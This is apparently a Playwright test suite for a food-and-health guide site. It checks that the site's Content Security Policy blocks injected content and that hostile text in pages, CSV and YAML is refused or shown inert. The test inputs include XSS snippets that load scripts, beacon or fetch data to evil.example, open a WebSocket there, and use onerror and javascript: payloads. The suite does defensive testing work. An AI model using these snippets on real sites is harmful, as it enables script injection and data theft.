"""The security policy in the real browser: it is in force everywhere, nothing of ours breaks it, nothing hostile gets past.

A payload that runs calls alert; one that fetches asks evil.example. Both are noticed and fail the test.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Error, Page

import mini
from content import ContentError, foods, glossary, guide, pages, policy, questions
from content.addresses import Repository
from payloads import payloads
from site_server import serving
from test_adapters import build, project

WATCH = """
window.__broken = [];
window.alert = (text) => window.__broken.push(`alert ${text}`);
document.addEventListener("securitypolicyviolation", (e) =>
  window.__broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
"""


class Watch:
    """What went wrong on a page since the last look."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.faults = page, []  # type: tuple[Page, list[str]]
        page.add_init_script(WATCH)
        page.on(
            "request",
            lambda r: r.url.startswith((address, "data:", "blob:")) or self.faults.append(f"foreign: {r.url}"),
        )
        page.on("pageerror", lambda error: self.faults.append(f"script: {error}"))
        page.on("console", lambda m: m.type == "error" and self.faults.append(f"console: {m.text}"))
        page.on("dialog", lambda dialog: self.faults.append(f"dialog: {dialog.message}") or dialog.dismiss())

    def look(self) -> list[str]:
        found: list[str] = self.faults + self.page.evaluate("window.__broken.splice(0)")
        self.faults = []
        return found


# The policy holds, and nothing of ours breaks it


@pytest.mark.parametrize("shard", range(2))
def test_no_page_breaks_the_policy(open_page: Callable[..., Page], address: str, paths: list[str], shard: int) -> None:
    page = open_page(width=1280, height=900)
    watch = Watch(page, address)
    faults = []
    for path in paths[shard::2]:
        response = page.goto(address + path)
        assert response is not None
        header = response.headers.get("content-security-policy", "")
        assert header.startswith("default-src 'none'; script-src 'self' 'sha256-"), path
        assert "frame-ancestors 'none'" in header
        meta = page.evaluate("document.head.children[1].outerHTML")
        assert meta.startswith('<meta http-equiv="Content-Security-Policy"'), path
        assert "unsafe" not in header + meta
        faults += [f"/{path} {fault}" for fault in watch.look()]
    assert not faults, "\n".join(faults)


def test_no_state_of_a_page_breaks_the_policy(open_page: Callable[..., Page], address: str) -> None:
    faults = []
    for width in (360, 1280):
        page = open_page(width=width, height=900)
        watch = Watch(page, address)
        for path in ("", "food/table/", "faq/", "medicines/", "result/", "low/", "food/charts/"):
            page.goto(address + path)
            page.evaluate("document.querySelectorAll('details').forEach((part) => (part.open = true))")
            page.evaluate("document.querySelectorAll('article button, article label').forEach((part) => part.click())")
            for field in page.locator("article input:not([type=checkbox]):not([type=radio])").all():
                if field.is_visible():
                    field.fill("2.9 banana")
                    field.press("Enter")
            page.evaluate(
                "document.querySelectorAll('.md-header__button[for^=__palette]').forEach((part) => part.click())"
            )
            page.evaluate("document.getElementById('__search').click()")
            page.locator(".md-search__input").fill("potasium banana")
            page.wait_for_timeout(400)
            page.evaluate("document.getElementById('__drawer').click()")
            # A script that stumbles over a hundred clicks at once is another test's business.
            faults += [f"/{path} at {width}: {fault}" for fault in watch.look() if not fault.startswith("script: ")]
    assert not faults, "\n".join(faults)


@pytest.mark.parametrize(
    "code",
    [
        "const s = document.createElement('script'); s.textContent = 'alert(1)'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "const i = document.createElement('img'); i.src = 'https://evil.example/x.png'; document.body.append(i)",
        "const p = document.createElement('p'); p.innerHTML = '<img src=x onerror=alert(1)>'; document.body.append(p)",
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
        "const l = Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://evil.example/x.css'}); document.head.append(l)",
        "document.body.setAttribute('style', 'color: red')",
        "fetch('https://evil.example/').catch(() => {})",
        "navigator.sendBeacon('https://evil.example/', 'x')",
        "try { new WebSocket('wss://evil.example/') } catch {}",
        "try { new Worker('data:text/javascript,1') } catch {}",
        "location.href = 'javascript:alert(1)'",
    ],
)
def test_the_policy_stops_what_gets_into_a_page(open_page: Callable[..., Page], address: str, code: str) -> None:
    """The watch is no decoration: each of these is stopped, and said."""
    page = open_page(width=1280)
    watch = Watch(page, address)
    page.goto(address)
    page.evaluate(code)
    page.wait_for_timeout(150)
    found = watch.look()
    assert any("-src" in fault for fault in found), found
    assert not any(fault.startswith("alert") for fault in found)


# Hostile content, through the loaders, the engine and the delivery, into the browser


def planted(payload: str) -> dict[str, dict[str, str]]:
    """place -> changed files of the small guide, with the payload in that place."""
    tree = mini.tree()
    one_line = " ".join(payload.split())
    yaml = one_line.replace("\\", "\\\\").replace('"', '\\"')
    cell = payload.replace('"', '""')
    question = "docs/data/faq/cramp.md"
    terms = tree["docs/data/glossary.yml"]
    return {
        "page": {"docs/legs/clot.md": tree["docs/legs/clot.md"] + f"\n## Planted {{#planted}}\n\n{payload}\n"},
        "paragraph": {"docs/help.md": tree["docs/help.md"] + f"\nPlanted {payload} planted.\n"},
        "title": {
            "docs/glossary.md": re.sub(
                "^title: .*$", lambda _: f'title: "{yaml}"', tree["docs/glossary.md"], count=1, flags=re.M
            )
        },
        "answer": {question: tree[question] + f"\n\n{payload}\n"},
        "cell": {
            "docs/data/foods.csv": tree["docs/data/foods.csv"]
            + f'x,"{cell}","{cell}",Fruit,raw,,173945,1,,,,"1 {cell}",1,,,,,"{cell}"\n'
        },
        "YAML": {
            "docs/data/glossary.yml": re.sub(
                r"^( +meaning: ).*$", lambda m: f'{m[1]}"{yaml}"', terms, count=1, flags=re.M
            )
        },
    }


# The loader that reads the file of each place; reading the whole guide a thousand times would take minutes.
READERS: dict[str, Callable[[Path], object]] = {
    "page": lambda docs: pages.read(docs / "legs" / "clot.md", "legs/clot.md"),
    "paragraph": lambda docs: pages.read(docs / "help.md", "help.md"),
    "title": lambda docs: pages.read(docs / "glossary.md", "glossary.md"),
    "answer": lambda docs: questions.load(docs / "data" / "faq"),
    "cell": lambda docs: foods.load(docs / "data" / "foods.csv"),
    "YAML": lambda docs: glossary.load(docs / "data" / "glossary.yml"),
}


def test_hostile_content_is_refused_or_harmless(tmp_path: Path, open_page: Callable[..., Page]) -> None:
    tree = mini.tree()
    docs = mini.write(tmp_path / "known")
    refused = 0
    passed: dict[str, list[str]] = {place: [] for place in READERS}
    for payload in payloads():
        for place, files in planted(payload).items():
            mini.write(tmp_path / "known", files)
            try:
                READERS[place](docs)
            except ContentError:
                refused += 1
            else:
                passed[place].append(payload)
            mini.write(tmp_path / "known", {name: tree[name] for name in files})
    print(f"{refused} refused; let through: { {place: len(texts) for place, texts in passed.items()} }")
    assert refused > 300
    assert len(passed["cell"]) > 50, "a hostile cell is shown as text"

    root = project(tmp_path / "project")
    everything = dict(tree)
    term = "".join(tree["docs/data/glossary.yml"].partition("- slug")[1:]).split("\n- slug")[0]
    for place, texts in passed.items():
        for n, payload in enumerate(texts):
            ((name, text),) = planted(payload)[place].items()
            more = text[len(tree[name]) :]
            if place == "title":
                continue  # there is one title
            if place == "YAML":
                meaning = re.findall("^ +meaning: .*$", text, re.M)[0]
                more = re.sub("^ +meaning: .*$", lambda _, m=meaning: m, term, flags=re.M)  # type: ignore[misc]
                more = more.replace('"potassium"', f'"x{n}"').replace('"Potassium"', f'"X{n}"') + "\n"
            everything[name] += (
                more.replace("x,", f"x{n},", 1).replace("173945", str(200_000 + n)) if place == "cell"
                else more.replace("planted}", f"planted-{n}}}")
            )  # fmt: skip
    mini.write(root, everything)
    try:
        guide.load(root / "docs", Repository(""))
    except ContentError as error:  # two texts together may be what one alone is not
        pytest.fail(f"together they are refused:\n{str(error)[:2000]}")
    done = build(root, SITE_URL="http://127.0.0.1/")
    assert done.returncode == 0, done.stderr[:3000]
    with serving(root / "site") as address:
        page = open_page(width=1280)
        watch = Watch(page, address)
        for path in ("", "help/", "legs/clot/", "tables/", "faq/", "glossary/"):
            page.goto(address + path)
            page.evaluate("document.querySelectorAll('article button.site-term').forEach((part) => part.click())")
            page.wait_for_timeout(150)
            assert not watch.look(), path
        assert page.goto(address + "tables/").text().count("alert(1)") > 50  # type: ignore[union-attr]


def test_an_inline_script_in_a_template_stops_the_build(tmp_path: Path) -> None:
    root = project(tmp_path / "project")
    (root / "overrides" / "partials" / "copyright.html").write_text(
        "<p>x</p>\n<script>alert(1)</script>\n", encoding="utf-8"
    )
    done = build(root)
    assert done.returncode == 1
    assert re.search(r'404\.html:\d+ inline script: found "alert\(1\)", wanted none, or a line in scripts/content/inline_scripts\.txt: '
                     r"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF\+pI= what it is", done.stderr), done.stderr[:2000]  # fmt: skip
    assert "Traceback" not in done.stderr


def test_what_runs_without_a_policy_is_what_the_build_refuses(browser: Browser) -> None:
    """The build's own reader and the browser agree: nothing runs or fetches that the build would let through."""
    context = browser.new_context()
    page = context.new_page()
    ran = 0
    missed = []
    for payload in payloads():
        seen: list[str] = []
        handler: Any = lambda request, seen=seen: "evil.example" in request.url and seen.append(request.url)  # noqa: E731
        page.on("request", handler)
        html = f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body><p>{payload}</p></body></html>'
        try:
            page.goto("about:blank")
            page.evaluate("window.alert = () => {}")
            page.set_content(
                html.replace("alert(1)", "document.documentElement.dataset.ran=1"), wait_until="commit", timeout=10_000
            )
            page.wait_for_timeout(40)
            run = page.evaluate("'ran' in document.documentElement.dataset")
        except Error:
            run = True  # it took the page elsewhere
        page.remove_listener("request", handler)
        if run or seen:
            ran += 1
            if not policy.problems(html, "x.html", ()):
                missed.append(payload)
    context.close()
    print(f"{ran} of {len(payloads())} payloads run or fetch without a policy")
    assert ran > 40
    assert missed == []


# Hostile addresses and hostile typing

TYPE = """async (field, texts) => {
  for (const text of texts) {
    field.value = text.replace(/\\s+/g, " ");
    field.dispatchEvent(new Event("input", { bubbles: true }));
    await new Promise((next) => setTimeout(next, 5));
  }
}"""
VISIT = """async (hashes) => {
  for (const hash of hashes) {
    location.hash = hash;
    await new Promise((next) => setTimeout(next, 5));
  }
}"""


def test_hostile_addresses_and_words_stay_text(open_page: Callable[..., Page], address: str) -> None:
    page = open_page(width=1280)
    watch = Watch(page, address)
    fields = {
        "food/table/": (".site-finder input[type=search], .site-finder input", ["#q={}", "#food-{}"]),
        "result/": (".site-explain input", ["#k={}"]),
        "medicines/": ("[data-filter] input, input[data-filter]", ["#{}"]),
        "faq/": (".site-ask input", ["#q={}", "#{}"]),
    }
    faults = []
    for path, (selector, hashes) in fields.items():
        page.goto(address + path)
        field = page.locator(selector).first
        assert field.count(), f"no field on /{path}"
        field.evaluate(TYPE, payloads())
        faults += [f"/{path} typed: {fault}" for fault in watch.look()]
        page.evaluate(VISIT, [hash_.replace("{}", quote(text, safe="")) for text in payloads() for hash_ in hashes])
        for payload in payloads()[::20]:  # a fresh visit with the payload in every part of the address
            page.goto("about:blank")
            page.goto(
                f"{address}{path}?q={quote(payload)}&no={quote(payload)}{hashes[0].format(quote(payload, safe=''))}"
            )
        page.wait_for_timeout(300)
        faults += [f"/{path} address: {fault}" for fault in watch.look()]
    assert not faults, "\n".join(dict.fromkeys(faults))
